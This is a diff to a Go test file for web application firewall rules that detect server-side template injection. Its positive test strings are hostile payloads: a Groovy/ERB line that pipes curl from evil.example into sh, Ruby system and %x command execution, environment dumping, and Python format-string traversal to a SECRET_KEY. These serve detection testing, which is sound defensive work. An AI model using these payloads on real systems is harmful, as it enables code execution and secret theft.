@@ -131,8 +131,8 @@ func TestTemplateSpaceRule(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if n := len(templateExpressions()); n != 5 {
-		t.Errorf("%d template expressions, want 5 (210110 to 210114)", n)
+	if n := len(templateExpressions()); n != 7 {
+		t.Errorf("%d template expressions, want 7 (210110 to 210114, 210116, 210117)", n)
 	}
 	ascii := strings.NewReplacer("\u00a0", " ", "\u2003", " ", "\x0b", " ", "\x1c", " ", "\x1f", " ", "\u0085", " ", "\u2028", " ", "\u3000", " ", "\ufeff", " ")
 	for _, v := range templateSpaceProbes {
@@ -187,6 +187,62 @@ func TestLaTeXMathsIsSmartysProbe(t *testing.T) {
 	for _, v := range []string{"$x^{2*3}$", `$\sqrt{2*2}$`, `$\frac{1}{2*3}$`, "x^{7*7}", "$^{7*7}$", `\sqrt{7*7}`, "{7*7}"} {
 		if ids := execMatches(t, waf, v); !slices.Contains(ids, 210110) {
 			t.Errorf("%q: rules %v, want 210110", v, ids)
+		}
+	}
+}
+
+// seclangRx compiles a rule's expression as @rx reads it (\" is ").
+func seclangRx(expr string) *regexp.Regexp {
+	return regexp.MustCompile(strings.ReplaceAll(expr, `\"`, `"`))
+}
+
+// TestTemplateCodeRule: rule 210116 matches a tenth fresh-eyes attack's
+// (attack 14) Groovy and ERB code and none of the ERB and code that
+// documentation and forum posts show.
+func TestTemplateCodeRule(t *testing.T) {
+	re := seclangRx(templateCodeRule)
+	for _, s := range []string{
+		`<% ['bash','-c','curl evil.example|sh'].execute() %>`, `<% 'id'.execute() %>`, `<% ['id'].execute() %>`,
+		`<% evaluate('"id".execute()') %>`, `<% evaluate(x) %>`, `<% Eval.me(x) %>`, `yieldUnescaped ['id'].execute().text`,
+		`<%= "id".execute().text %>`, `<%= %x[whoami] %>`, `<%= %x(id) %>`, `<%= system 'id' %>`, `<%= Kernel.send(:system, 'id') %>`,
+		`<%= send(:system, 'id') %>`, `<%= public_send('exec', 'id') %>`, `<%= instance_eval('%x(id)') %>`,
+		`<%= require 'open3'; Open3.capture2('id')[0] %>`, `<%= PTY.spawn('id') %>`, `<%= ENV.to_h %>`, `<%= ENV %>`, `<%= ENV.inspect %>`,
+	} {
+		if !re.MatchString(s) {
+			t.Errorf("210116 misses %q", s)
+		}
+	}
+	for _, s := range []string{
+		`<%= @user.name %>`, `<%= link_to 'Home', root_path %>`, `<% if x %>`, `<%= render 'form' %>`, `<%= form.submit 'Save' %>`,
+		`<%= ENV['RAILS_ENV'] %>`, `<%= ENV.fetch("RAILS_MAX_THREADS") { 5 } %>`, `<%= system_name %>`, `<% page.evaluate('x') %>`,
+		`tasks['build'].execute()`, `commands[0].execute()`, `cursor.execute('SELECT 1')`, `db.prepare('x').execute()`,
+		`printf("%x(%d)")`, `The operating system 'Linux' is fine`, `Use <% %> for code and <%= %> for output; the system 'works'`,
+	} {
+		if re.MatchString(s) {
+			t.Errorf("210116 matches the benign %q", s)
+		}
+	}
+}
+
+// TestFormatFieldRule: rule 210117 matches str.format fields that reach
+// a dunder attribute (attack 14) and not fields, f-strings or prose that
+// do not.
+func TestFormatFieldRule(t *testing.T) {
+	re := seclangRx(formatFieldRule)
+	for _, s := range []string{
+		`{user.__class__.__init__.__globals__[CONFIG][SECRET_KEY]}`, `{0.__init__.__globals__[os].environ}`, `{user.__dict__}`,
+		`{0.__class__.__mro__[1]}`, `Hi {user.__init__.__globals__}`,
+	} {
+		if !re.MatchString(s) {
+			t.Errorf("210117 misses %q", s)
+		}
+	}
+	for _, s := range []string{
+		`{0}`, `{name}`, `{user.name}`, `{0.__class__}`, `f"{self.__class__.__name__}({self.x!r})"`,
+		`Override __init__ to set fields; __globals__ holds a function's module`, `{user.name} __init__`,
+	} {
+		if re.MatchString(s) {
+			t.Errorf("210117 matches the benign %q", s)
 		}
 	}
 }
